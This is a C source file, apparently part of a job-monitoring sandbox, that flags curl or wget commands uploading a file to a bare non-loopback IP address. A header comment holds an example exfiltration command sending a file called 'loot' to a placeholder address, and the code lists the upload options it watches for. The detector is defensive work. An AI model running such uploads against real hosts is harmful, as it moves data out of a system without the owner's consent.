// SPDX-License-Identifier: Apache-2.0
// A program of the host that is executed to send a file to an address without a name: `curl -T loot http://192.0.2.1/`. Work sends files to
// names, and to loopback. It counts whether the network lets it pass or not. What a job sends by a program of its own is not
// seen here; destinations.c and the counter of sent bytes are for that.
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>

#include "box_private.h"
#include "server/base/log.h"

struct sender {
    const char *name;
    const char *options[8]; // how words begin that send a file
    const char *letters;    // the same as letters, behind others that take no value: "-sST"
};

static const struct sender senders[] = {
    {"curl",
     {"--upload-file", "--form", "-d@", "--data=@", "--data-binary=@", "--data-urlencode=@"},
     "TF"},
    {"wget", {"--post-file", "--body-file"}, ""},
};
// Options of curl whose next word is the text, or, behind an @, the file.
static const char *const data_options[] = {"-d",           "--data",           "--data-binary",
                                           "--data-ascii", "--data-urlencode", "--json"};
static const char letters_without_value[] = "sSfkLvgiIaBGnNOqR0123456#";

static const struct sender *
sender_of(const struct watch_exec *x)
{
    char path[WATCH_PATH + 1] = "";
    memcpy(path, x->path, x->path_n < WATCH_PATH ? x->path_n : WATCH_PATH);
    const char *slash = strrchr(path, '/');
    const char *name = slash != NULL ? slash + 1 : path;
    for (size_t i = 0; i < sizeof senders / sizeof senders[0]; i++)
        if (strcmp(senders[i].name, name) == 0)
            return &senders[i];
    return NULL;
}

static bool
is_data_option(const char *word)
{
    for (size_t i = 0; i < sizeof data_options / sizeof data_options[0]; i++)
        if (strcmp(data_options[i], word) == 0)
            return true;
    return false;
}

static bool
sends(const struct sender *s, const char *word, const char *next)
{
    for (size_t i = 0; i < sizeof s->options / sizeof s->options[0] && s->options[i] != NULL; i++)
        if (strncmp(word, s->options[i], strlen(s->options[i])) == 0)
            return true;
    const char *letter = word[0] == '-' ? word + 1 + strspn(word + 1, letters_without_value) : "";
    if (*letter != '\0' && strchr(s->letters, *letter) != NULL)
        return true;
    return is_data_option(word) && next != NULL && next[0] == '@';
}

// Whether the host of an URL, or of HOST[:PORT][/PATH], is an address that is not loopback.
static bool
is_address(const char *word)
{
    char host[INET6_ADDRSTRLEN + 1] = "";
    struct in_addr v4;
    struct in6_addr v6;
    const char *scheme = strstr(word, "://");
    const char *at = scheme != NULL ? scheme + 3 : word;
    size_t n = strcspn(at, "/?#");
    const char *user = memchr(at, '@', n);
    if (user != NULL) {
        n -= (size_t)(user + 1 - at);
        at = user + 1;
    }
    if (at[0] == '[') {
        const char *end = memchr(at, ']', n);
        n = end != NULL ? (size_t)(end - at) - 1 : 0;
        if (n == 0 || n >= sizeof host)
            return false;
        memcpy(host, at + 1, n);
        return inet_pton(AF_INET6, host, &v6) == 1 && !IN6_IS_ADDR_LOOPBACK(&v6);
    }
    const char *port = memchr(at, ':', n);
    n = port != NULL ? (size_t)(port - at) : n;
    if (n == 0 || n >= sizeof host)
        return false;
    memcpy(host, at, n);
    return inet_pton(AF_INET, host, &v4) == 1 && ntohl(v4.s_addr) >> 24 != 127;
}

void
box_transfer(struct box *b, const struct event *head, const struct watch_exec *x)
{
    const struct sender *s = sender_of(x);
    char argv[WATCH_ARGV + 1] = "", shown[128], text[FINDING_TEXT_MAX];
    const char *to = NULL;
    bool file = false;
    const uint32_t n = x->args_n < WATCH_ARGV ? x->args_n : WATCH_ARGV;
    if (s == NULL)
        return;
    memcpy(argv, x->argv, n);
    for (uint32_t i = (uint32_t)strlen(argv) + 1; i < n; i += (uint32_t)strlen(argv + i) + 1) {
        const uint32_t next = i + (uint32_t)strlen(argv + i) + 1;
        file = file || sends(s, argv + i, next < n ? argv + next : NULL);
        if (to == NULL && is_address(argv + i))
            to = argv + i;
    }
    if (!file || to == NULL)
        return;
    (void)log_escape(to, shown, sizeof shown);
    (void)snprintf(text, sizeof text, "%s sends a file to \"%s\", an address without a name",
                   s->name, shown);
    box_count(b, RULE_UPLOAD_TO_ADDRESS, head->time_ns, box_hash(to, strlen(to), 17), 1, text);
}
